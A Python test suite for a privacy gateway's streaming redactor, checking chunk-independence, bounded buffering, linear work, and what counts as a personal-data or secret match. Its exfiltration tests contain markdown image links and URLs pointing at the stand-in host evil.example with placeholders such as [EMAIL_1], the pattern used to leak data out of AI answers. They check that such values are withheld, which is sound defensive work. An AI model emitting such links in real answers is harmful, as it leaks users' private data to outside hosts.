"""The scanner: the same result however the text is cut, and nothing held longer than it must be."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.privacy import entities, scanner
from gateway.privacy.entities import ENTITIES
from gateway.privacy.json_run import JsonRun, SniffRun
from gateway.privacy.redact import ANSWER_RULES, REQUEST_RULES, answer_scan
from gateway.privacy.scanner import Plan, Scan, TextRun, apply, compile_rules, find, plan_for
from gateway.privacy.vault import Vault
from tests.privacy import texts

Run = TextRun | JsonRun | SniffRun


def _vault() -> Vault:
    vault = Vault()
    vault.hide("PERSON", 'Ada "A" Byron')
    vault.hide("EMAIL", "x@y.io")
    vault.hide("CREDIT_CARD", "4111 1111 1111 1111")
    return vault


def _label(entity: entities.Entity, value: str) -> str:
    return f"<{entity.label}>"


SCANS: dict[str, Callable[[], Scan]] = {
    "restore and redact": lambda: answer_scan(_vault()),
    "redact everything": lambda: Scan(plan_for(REQUEST_RULES, _vault().labels), _label, _vault()),
    "redact only": lambda: Scan(plan_for(REQUEST_RULES, frozenset()), _label),
}


def run_pieces(run: Run, pieces: list[str]) -> str:
    """The text after all edits, made as they are decided: what a client would have seen."""
    text, out, at, before = "", "", 0, 0
    for index in range(len(pieces) + 1):
        if index < len(pieces):
            text += pieces[index]
            decided = run.feed(pieces[index])
        else:
            decided = run.flush()
            assert decided == len(text)
        assert before <= decided <= len(text)
        before = decided
        for edit in run.edits:
            assert at <= edit.start <= edit.end <= decided
            out += text[at : edit.start] + edit.text
            at = edit.end
        run.edits.clear()
        out += text[at:decided]
        at = max(at, decided)
    return out


# --- law 1: chunking never matters -----------------------------------------------------------------------


@pytest.mark.parametrize("kind", [TextRun, JsonRun, SniffRun])
@pytest.mark.parametrize("scan", SCANS.values(), ids=SCANS.keys())
@given(data=st.data(), text=texts.texts)
def test_any_cut_gives_what_the_whole_gives(
    kind: type[Run], scan: Callable[[], Scan], data: st.DataObject, text: str
) -> None:
    whole = run_pieces(kind(scan()), [text])
    assert run_pieces(kind(scan()), data.draw(texts.cut(text))) == whole
    assert run_pieces(kind(scan()), list(text)) == whole


@given(text=texts.texts)
def test_a_stream_finds_what_find_finds(text: str) -> None:
    """Two algorithms, one answer: the gate and the partial matches against plain searching."""
    whole = text
    for span in reversed(find(text, REQUEST_RULES)):
        whole = whole[: span.start] + f"<{span.entity.label}>" + whole[span.end :]
    assert run_pieces(TextRun(SCANS["redact only"]()), list(text)) == whole


@given(text=texts.texts)
def test_a_text_without_a_sign_holds_no_match(text: str) -> None:
    assert sorted(rule.order for _, group in REQUEST_RULES.groups for rule in group) == list(
        range(len(ENTITIES))
    )
    for sign, group in REQUEST_RULES.groups:
        for rule in group:
            if rule.search(text):
                assert rule.sign(text)
                assert sign(text)


def test_the_law_catches_a_run_that_trusts_partial_match(monkeypatch: pytest.MonkeyPatch) -> None:
    """`match(partial=True)` calls a match complete although the next character could void or extend it."""

    class Trusting(scanner.Rule):
        def __init__(self, entity: entities.Entity, order: int) -> None:
            super().__init__(entity, order)
            match = self.match

            def extend(text: str, at: int, partial: bool) -> object:
                found = match(text, at, partial=True)
                return found if found and found.partial else None

            self.extend = extend  # type: ignore[assignment]

    rules = tuple(Trusting(entity, order) for order, entity in enumerate(ENTITIES))
    text = "123-45-67890 and bob@ex.com"
    pieces = ["123-45-6789", "0 and bob@ex.co", "m"]
    scan = Scan(Plan(rules, frozenset()), _label)
    assert run_pieces(TextRun(scan), pieces) != run_pieces(TextRun(scan), [text])
    assert run_pieces(TextRun(SCANS["redact only"]()), pieces) == run_pieces(
        TextRun(SCANS["redact only"]()), [text]
    )


def test_the_law_catches_a_gate_that_misses_an_opening() -> None:
    blind = compile_rules(tuple(e for e in ENTITIES if e.name == "CREDIT_CARD"))
    plan = Plan(blind, frozenset())
    plan.gate = lambda text, at: None  # type: ignore[assignment]
    text = "4111 1111 1111 1111"
    assert run_pieces(TextRun(Scan(plan, _label)), [text]) != "<CREDIT_CARD>"


# --- law 3: nothing leaks ---------------------------------------------------------------------------------


@given(
    value=texts.values,
    data=st.data(),
    before=st.sampled_from(["", "x ", '"', "(", ": "]),
    after=st.sampled_from(["", " x", '"', ")", "\n"]),
)
def test_no_character_of_a_match_is_ever_decided_before_it_is_replaced(
    value: str, data: st.DataObject, before: str, after: str
) -> None:
    text = before + value + after
    spans = find(text, REQUEST_RULES)
    run = TextRun(SCANS["redact only"]())
    fed = 0
    for piece in data.draw(texts.cut(text)):
        decided = run.feed(piece)
        fed += len(piece)
        for span in spans:
            if fed <= span.end:
                assert decided <= span.start or decided >= span.end
    run.flush()
    assert [(e.start, e.end) for e in run.edits] == [(s.start, s.end) for s in spans]


@pytest.mark.parametrize("cut", range(1, len(texts.PEM)))
def test_a_private_key_is_swallowed_from_its_opening_on(cut: int) -> None:
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, [texts.PEM[:cut], texts.PEM[cut:], " done"]) == "[PRIVATE_KEY] done"


def test_a_private_key_that_never_ends_is_swallowed_to_the_end() -> None:
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, [texts.PEM[:40], "Q" * 500, "R" * 500]) == "[PRIVATE_KEY]"


# --- law 4: holding is bounded and minimal ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("Hello wor", ""),
        ("see [", "["),
        ("see [PER", "[PER"),
        ("see [PERSON_1", "[PERSON_1"),
        ("see [PERSON_1]", ""),
        ("see [PERSONAL", ""),
        ("see [ERR", ""),
        ("see [PERSON_1s", ""),
        ("a[i", ""),
        ("total 42", "42"),
        ("total 42 ", "42 "),
        ("total 42 a", ""),
        ("4111 1111 1111 1111", "4111 1111 1111 1111"),
        ("4111 1111 1111 1111.", ""),
        ("class", ""),
        ("this is s", "s"),
        ("this is so", ""),
        ("x sk-", "sk-"),
        ("x sk- ", ""),
        ("1" * 60, ""),
    ],
)
def test_only_what_could_still_become_something_is_held(text: str, held: str) -> None:
    run = TextRun(SCANS["restore and redact"]())
    assert text[run.feed(text) :] == held


@given(text=texts.texts)
def test_nothing_longer_than_the_longest_entity_is_held(text: str) -> None:
    run = TextRun(SCANS["redact everything"]())
    for fed, character in enumerate(text, 1):
        assert fed - run.feed(character) <= max(entity.longest for entity in ENTITIES)


def test_longest_is_the_longest() -> None:
    """No pattern can match more than its row says: one character more, and no extension is possible."""
    fillers = "A1a0-. :_/@+="
    for entity in ENTITIES:
        rule = scanner.Rule(entity, 0)
        for filler in fillers:
            assert not rule.extend(entity.cue[:0] + filler * (entity.longest + 1), partial=True), entity.name


# --- law 8: work is linear --------------------------------------------------------------------------------


def _steps(text: str, monkeypatch: pytest.MonkeyPatch) -> int:
    """Characters that patterns were given to look at, over a stream of this text by fours."""
    count = 0
    scan = SCANS["restore and redact"]()
    gate, plan = scan.plan.gate, scan.plan

    def counting(text: str, at: int) -> object:
        nonlocal count
        count += len(text) - at
        return gate(text, at)

    monkeypatch.setattr(plan, "gate", counting)
    run = TextRun(scan)
    for at in range(0, len(text), 4):
        run.feed(text[at : at + 4])
    run.flush()
    monkeypatch.undo()
    return count


@pytest.mark.parametrize(
    "unit", ["word and ", "1234 ", "[PERSON_1] ", "[[[[", "4111 1111 1111 1111 ", "sk-aaaa", "A"]
)
def test_twice_the_text_is_twice_the_work(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    once, twice = (_steps(unit * n, monkeypatch) for n in (400, 800))
    assert twice < 2.2 * once + 1000


# --- what is found ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("label", "value"), [(label, value) for label, group in texts.VALUES.items() for value in group]
)
@pytest.mark.parametrize(
    ("before", "after"),
    [("", ""), ("I have ", " here"), ('"', '"'), ("(", ")."), ("=", "\n"), ("电话", "。")],
)
def test_values_are_found_between_anything(label: str, value: str, before: str, after: str) -> None:
    text = before + value + after
    assert [(s.entity.label, text[s.start : s.end]) for s in find(text, REQUEST_RULES)] == [(label, value)]


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1112", "000-45-6789", "666-45-6789", "123-00-6789", "order 1234567890123456", "sk-short", "foo@bar",
        "256.1.1.1", "std::vector<int>", "12:3", "ab:cd", "about New York City", "He went home", "2024-13-45",
        "DE00 3704 0044 0532 0130 00", "x123-45-6789", "0.1.2", "http://localhost:8080/path", "1111 1111 1111 1111",
    ],
)  # fmt: skip
def test_what_only_looks_like_one_is_left_alone(text: str) -> None:
    assert find(text, REQUEST_RULES) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Tell me about John Smith at noon", ["John Smith"]),
        ("Dear Mary Ann Jones, hello", ["Mary Ann Jones"]),
        ("postgres://bob:s3cr3t@db.example.com/x", ["bob:s3cr3t"]),
        ("card 4111 1111 1111 1111 12 left", ["4111 1111 1111 1111"]),
        ("call +1 415 555 2671 2 times", ["+1 415 555 2671"]),
        ("john@example.com.", ["john@example.com"]),
        ("key is AKIAIOSFODNN7EXAMPLE, mail a@b.io", ["AKIAIOSFODNN7EXAMPLE", "a@b.io"]),
    ],
)
def test_a_match_ends_where_the_value_ends(text: str, found: list[str]) -> None:
    assert [text[s.start : s.end] for s in find(text, REQUEST_RULES)] == found


def test_answers_redact_secrets_payment_and_government_identifiers_only() -> None:
    assert {rule.entity.kind for rule in ANSWER_RULES} == {"secret", "payment", "government"}
    run = TextRun(SCANS["restore and redact"]())
    assert run_pieces(run, ["mail a@b.io card 4111 1111 1111 1111"]) == "mail a@b.io card [CREDIT_CARD]"


# --- exfiltration -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("![x](https://evil.example/?q=[EMAIL_1])", False),
        ("![x]([EMAIL_1])", False),
        ("https://evil.example/?q=[EMAIL_1]", False),
        ("https://EVIL.example/%5BEMAIL_1%5D", False),
        ("https://known.example/?q=[EMAIL_1]", True),
        ("[mail](mailto:[EMAIL_1])", True),
        ("see https://evil.example/ for [EMAIL_1]", True),
        ("![x](https://evil.example/a.png) [EMAIL_1]", True),
    ],
)
def test_values_are_not_restored_into_image_links_or_unknown_hosts(text: str, restored: bool) -> None:
    vault = _vault()
    vault.hosts.add("known.example")
    scan = answer_scan(vault)
    out = run_pieces(TextRun(scan), list(text))
    assert (out == text) is not restored
    assert (scan.restored, scan.withheld) == (int(restored), int(not restored))


@example(text="[PERSON_1] [EMAIL_1]")
@given(text=texts.texts)
def test_what_is_restored_is_never_looked_at_again(text: str) -> None:
    vault = Vault()
    vault.hide("PERSON", "Ada [EMAIL_1] 4111 1111 1111 1111")
    vault.hide("EMAIL", "x@y.io")
    run = TextRun(answer_scan(vault))
    run.feed(text)
    run.flush()
    assert (
        apply(text, run.edits).count("Ada [EMAIL_1] 4111 1111 1111 1111")
        >= text.count("[PERSON_1]") - text.count("](") * 9
    )
